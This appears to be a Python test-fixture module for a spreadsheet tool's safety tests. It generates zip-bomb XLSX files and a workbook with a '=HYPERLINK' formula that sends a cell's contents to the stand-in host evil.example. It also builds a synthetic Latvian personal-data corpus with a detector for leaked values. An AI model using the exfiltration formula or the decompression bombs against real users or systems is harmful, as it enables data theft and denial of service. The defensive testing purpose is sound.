"""Hostile inputs shared by the tests and ``benchmarks/safety_bench.py``: zip bombs, formula workbooks, huge rows.

Everything is generated (nothing is downloaded); sizes are parameters so the suite uses small ones and the
benchmark the sizes of the security report (a 1 GiB cell, 20 million rows).
"""

from __future__ import annotations

import zipfile
import zlib
from pathlib import Path

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WB_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>'
)
_SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
_SHEET_TAIL = "</sheetData></worksheet>"


def _write_streamed(zf: zipfile.ZipFile, name: str, pieces) -> None:
    with zf.open(zipfile.ZipInfo(name), "w", force_zip64=True) as fh:
        for p in pieces:
            fh.write(p)


def _xlsx(path: Path, sheet_pieces) -> Path:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("[Content_Types].xml", _CONTENT_TYPES)
        zf.writestr("_rels/.rels", _RELS)
        zf.writestr("xl/workbook.xml", _WORKBOOK)
        zf.writestr("xl/_rels/workbook.xml.rels", _WB_RELS)
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(info, "w", force_zip64=True) as fh:
            for p in sheet_pieces:
                fh.write(p)
    return path


def big_cell_xlsx(path: Path, cell_bytes: int) -> Path:
    """One inline-string cell of ``cell_bytes`` letters (1 GiB compresses to ~1 MB)."""
    block = b"A" * (1 << 20)

    def pieces():
        yield (_SHEET_HEAD + '<row r="1"><c r="A1" t="inlineStr"><is><t>').encode()
        left = cell_bytes
        while left > 0:
            n = min(left, len(block))
            yield block[:n]
            left -= n
        yield ("</t></is></c></row>" + _SHEET_TAIL).encode()

    return _xlsx(path, pieces())


def many_rows_xlsx(path: Path, rows: int) -> Path:
    """``rows`` identical rows with one short text each, without row numbers (20 million compress to ~1.5 MB)."""

    def pieces():
        yield _SHEET_HEAD.encode()
        block = b'<row><c t="inlineStr"><is><t>Pases izsniegana</t></is></c></row>' * 10_000
        left = rows
        while left > 0:
            n = min(left, 10_000)
            yield block if n == 10_000 else block[: n * (len(block) // 10_000)]
            left -= n
        yield _SHEET_TAIL.encode()

    return _xlsx(path, pieces())


def formula_xlsx(path: Path) -> Path:
    """A name list with a live ``=HYPERLINK`` exfiltration formula and a formula without a cached value."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["Pakalpojuma nosaukums", "Piezīmes"])
    ws.append(["Pases izsniegšana", '=HYPERLINK("http://evil.example/?d="&A2,"Klikšķiniet")'])
    ws.append(['="Būvatļaujas "&"izsniegšana"', ""])  # a formula with no cached value in the name column
    ws.append(["Dzīvesvietas deklarēšana", "=1+1"])
    wb.save(path)
    return path


def deflate_ratio(data: bytes) -> float:
    return len(data) / max(1, len(zlib.compress(data, 9)))


# ------------------------------------------------------------------ a generated personal-data corpus

import random
import re
import unicodedata
from dataclasses import dataclass

_W = (1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
_FW = str.maketrans("0123456789-@", "０１２３４５６７８９－＠")
_ZW = "\u200b"


@dataclass(frozen=True)
class Planted:
    """One planted item: its written form, the text as written, and what must never appear in an output."""

    form: str
    kind: str  # digits | word | email
    text: str
    needle: str  # digits (>= 7), a folded word stem, or an e-mail's local part


def _old_code(rng: random.Random) -> str:
    while True:
        d = f"{rng.randint(1, 28):02d}{rng.randint(1, 12):02d}{rng.randint(0, 99):02d}{rng.randint(0, 2)}"
        d += f"{rng.randint(0, 999):03d}"
        c = (1101 - sum(int(x) * w for x, w in zip(d, _W))) % 11
        if c < 10:
            return d + str(c)


def _iban(rng: random.Random, country: str = "LV", bank: str = "HABA") -> str:
    from stdnum import iban

    body = bank + "".join(str(rng.randint(0, 9)) for _ in range(13)) if country == "LV" else "".join(
        str(rng.randint(0, 9)) for _ in range(18))
    for check in range(100):
        cand = f"{country}{check:02d}{body}"
        if iban.is_valid(cand):
            return cand
    raise AssertionError("no IBAN")


_SURNAMES = ["Zvirgzdiņš", "Dreimanis", "Ķeņģis", "Pūpoliņš", "Strazdiņš", "Vītoliņš", "Grīnbergs", "Lapsiņš",
             "Skudriņš", "Ozoliņš", "Kļaviņš", "Mežiņš", "Birznieks", "Dzenītis", "Krūmiņš", "Liepiņš"]
_FEM = {"Zvirgzdiņš": "Zvirgzdiņa", "Dreimanis": "Dreimane", "Ķeņģis": "Ķeņģe", "Pūpoliņš": "Pūpoliņa",
        "Strazdiņš": "Strazdiņa", "Vītoliņš": "Vītoliņa", "Grīnbergs": "Grīnberga", "Lapsiņš": "Lapsiņa",
        "Skudriņš": "Skudriņa", "Ozoliņš": "Ozoliņa", "Kļaviņš": "Kļaviņa", "Mežiņš": "Mežiņa",
        "Birznieks": "Birzniece", "Dzenītis": "Dzenīte", "Krūmiņš": "Krūmiņa", "Liepiņš": "Liepiņa"}
_GEN = {"Zvirgzdiņš": "Zvirgzdiņa", "Dreimanis": "Dreimaņa", "Ķeņģis": "Ķeņģa", "Pūpoliņš": "Pūpoliņa",
        "Strazdiņš": "Strazdiņa", "Vītoliņš": "Vītoliņa", "Grīnbergs": "Grīnberga", "Lapsiņš": "Lapsiņa",
        "Skudriņš": "Skudriņa", "Ozoliņš": "Ozoliņa", "Kļaviņš": "Kļaviņa", "Mežiņš": "Mežiņa",
        "Birznieks": "Birznieka", "Dzenītis": "Dzenīša", "Krūmiņš": "Krūmiņa", "Liepiņš": "Liepiņa"}
_STREETS = ["Zvaigžņu", "Kastaņu", "Ūdeļu", "Dzērveņu", "Vītolu", "Ķiršu", "Lazdu", "Pīlādžu", "Mellenāju", "Cidoniju"]
_PLACES = [("Rīga", "Rīgā"), ("Jelgava", "Jelgavā"), ("Cēsis", "Cēsīs"), ("Ogre", "Ogrē"), ("Liepāja", "Liepājā")]


def fold(s: str) -> str:
    return "".join(c for c in unicodedata.normalize("NFD", s.lower()) if not unicodedata.combining(c))


def _forms() -> dict[str, callable]:
    def code(fmt):
        def make(rng):
            d = _old_code(rng)
            return fmt(d), d
        return make

    def new_code(fmt):
        def make(rng):
            from stdnum.lv import pvn

            while True:
                d = "32" + "".join(str(rng.randint(0, 9)) for _ in range(9))
                if pvn.is_valid(d):
                    return fmt(d), d
        return make

    def phone(fmt):
        def make(rng):
            d = rng.choice("2") + "".join(str(rng.randint(0, 9)) for _ in range(7))
            return fmt(d), d
        return make

    def email(fmt):
        def make(rng):
            user = f"{rng.choice(['anna', 'janis', 'liga', 'peteris'])}.{rng.choice(['kq', 'zx', 'wv'])}{rng.randint(100, 999)}"
            dom = rng.choice(["inbox.lv", "gmail.com", "pasts.lv"])
            return fmt(user, dom), user
        return make

    def iban(fmt, country="LV"):
        def make(rng):
            v = _iban(rng, country)
            return fmt(v), re.sub(r"\D", "", v[4:])
        return make

    def addr(fmt):
        def make(rng):
            street, (city, city_loc) = rng.choice(_STREETS), rng.choice(_PLACES)
            house, flat = rng.randint(2, 199), rng.randint(1, 99)
            return fmt(street, house, flat, city, city_loc), f"{fold(street)}|{house}"
        return make

    def name(fmt):
        def make(rng):
            sur = rng.choice(_SURNAMES)
            return fmt(sur), fold(sur)[:-2]
        return make

    sp = lambda d: " ".join(d)
    return {
        "code-hyphen": code(lambda d: f"{d[:6]}-{d[6:]}"),
        "code-plain": code(lambda d: d),
        "code-space": code(lambda d: f"{d[:6]} {d[6:]}"),
        "code-slash": code(lambda d: f"{d[:6]}/{d[6:]}"),
        "code-dot": code(lambda d: f"{d[:6]}.{d[6:]}"),
        "code-underscore": code(lambda d: f"{d[:6]}_{d[6:]}"),
        "code-two-spaces": code(lambda d: f"{d[:6]}  {d[6:]}"),
        "code-fullwidth": code(lambda d: f"{d[:6]}-{d[6:]}".translate(_FW)),
        "code-zero-width": code(lambda d: f"{d[:6]}{_ZW}-{d[6:]}"),
        "code-spaced-digits": code(sp),
        "code-nbsp": code(lambda d: f"{d[:6]}\u00a0{d[6:]}"),
        "code-en-dash": code(lambda d: f"{d[:6]}\u2013{d[6:]}"),
        "code-grouped": code(lambda d: f"{d[:2]} {d[2:4]} {d[4:6]}-{d[6:]}"),
        "code-arabic-digits": code(lambda d: "".join(chr(0x660 + int(c)) for c in d[:6]) + "-" + d[6:]),
        "code-new-hyphen": new_code(lambda d: f"{d[:6]}-{d[6:]}"),
        "code-new-plain": new_code(lambda d: d),
        "phone-plain": phone(lambda d: d),
        "phone-space": phone(lambda d: f"{d[:4]} {d[4:]}"),
        "phone-hyphen": phone(lambda d: f"{d[:4]}-{d[4:]}"),
        "phone-slash": phone(lambda d: f"{d[:4]}/{d[4:]}"),
        "phone-plus371": phone(lambda d: f"+371 {d}"),
        "phone-plus371-grouped": phone(lambda d: f"+371 {d[:2]} {d[2:5]} {d[5:]}"),
        "phone-00371": phone(lambda d: f"00371 {d}"),
        "phone-parens": phone(lambda d: f"(+371) {d}"),
        "phone-spaced-digits": phone(sp),
        "phone-fullwidth": phone(lambda d: d.translate(_FW)),
        "phone-zero-width": phone(lambda d: f"{d[:4]}{_ZW}{d[4:]}"),
        "email-plain": email(lambda u, d: f"{u}@{d}"),
        "email-at-brackets": email(lambda u, d: f"{u} [at] {d}"),
        "email-at-parens-dot": email(lambda u, d: f"{u}(at){d.replace('.', '(dot)')}"),
        "email-at-words": email(lambda u, d: f"{u} at {d.replace('.', ' dot ')}"),
        "email-fullwidth-at": email(lambda u, d: f"{u}＠{d}"),
        "email-spaced-at": email(lambda u, d: f"{u} @ {d}"),
        "email-braces": email(lambda u, d: f"{u}{{at}}{d}"),
        "iban-lv-compact": iban(lambda v: v),
        "iban-lv-grouped": iban(lambda v: " ".join(v[i : i + 4] for i in range(0, len(v), 4))),
        "iban-lv-lower": iban(lambda v: v.lower()),
        "iban-de-grouped": iban(lambda v: " ".join(v[i : i + 4] for i in range(0, len(v), 4)), "DE"),
        "address-street-city": addr(lambda s, h, f, c, cl: f"{s} iela {h}-{f}, {c}, LV-1010"),
        "address-city-first": addr(lambda s, h, f, c, cl: f"{cl}, {s} {h}-{f}"),
        "address-city-after": addr(lambda s, h, f, c, cl: f"{s} {h}-{f}, {c}"),
        "address-cue": addr(lambda s, h, f, c, cl: f"dzīvoju {s} {h}-{f}"),
        "address-locative-flat": addr(lambda s, h, f, c, cl: f"{s} ielā {h} dz. {f}"),
        "name-full": name(lambda s: f"Jānis {s}"),
        "name-feminine": name(lambda s: f"Anna {_FEM[s]}"),
        "name-genitive": name(lambda s: f"Jāņa {_GEN[s]}"),
        "name-surname-first": name(lambda s: f"kontaktpersona {s} Pēteris"),
        "name-signature": name(lambda s: f"Ar cieņu,\nMārtiņš {s}"),
        "name-signature-initial": name(lambda s: f"Ar cieņu,\nJ. {s}"),
        "name-greeting": name(lambda s: f"Labdien, Līga {_FEM[s]}!"),
    }


FORMS = _forms()


def personal_data_corpus(per_form: int = 9, seed: int = 13) -> list[Planted]:
    """``per_form`` items of every written form (50 forms), reproducible."""
    rng = random.Random(seed)
    out = []
    for form, make in FORMS.items():
        for _ in range(per_form):
            text, needle = make(rng)
            kind = "digits" if form.split("-")[0] in ("code", "phone", "iban") else (
                "email" if form.startswith("email") else "word")
            out.append(Planted(form, kind, text, needle))
    return out


def _norm(text: str) -> str:
    t = "".join(ch for ch in unicodedata.normalize("NFKC", text) if ch not in "\u200b\u200c\u200d\u2060\ufeff\u00ad")
    return "".join(str(unicodedata.digit(ch)) if ch.isdigit() and not ch.isascii() else ch for ch in t)


def leaks(text: str, items: list[Planted]) -> list[Planted]:
    """The planted items whose value can still be read in ``text`` (any spacing, width, digits or case)."""
    t = _norm(text)
    runs = ["".join(re.findall(r"\d", m.group(0))) for m in re.finditer(r"\d(?:(?:[^\w\n]|_){0,3}\d)*", t)]
    folded = fold(t)
    found = []
    for it in items:
        if it.kind == "digits":
            if any(it.needle in r for r in runs):
                found.append(it)
        elif it.kind == "email":
            if it.needle.lower() in folded:
                found.append(it)
        elif "|" in it.needle:
            street, house = it.needle.split("|")
            if re.search(rf"{re.escape(street)}\W{{1,8}}(?:iela\W+|iela\W+)?{house}\b", folded) or re.search(
                rf"{re.escape(street)} iel\w* {house}\b", folded):
                found.append(it)
        elif re.search(rf"\b{re.escape(it.needle)}", folded):
            found.append(it)
    return found
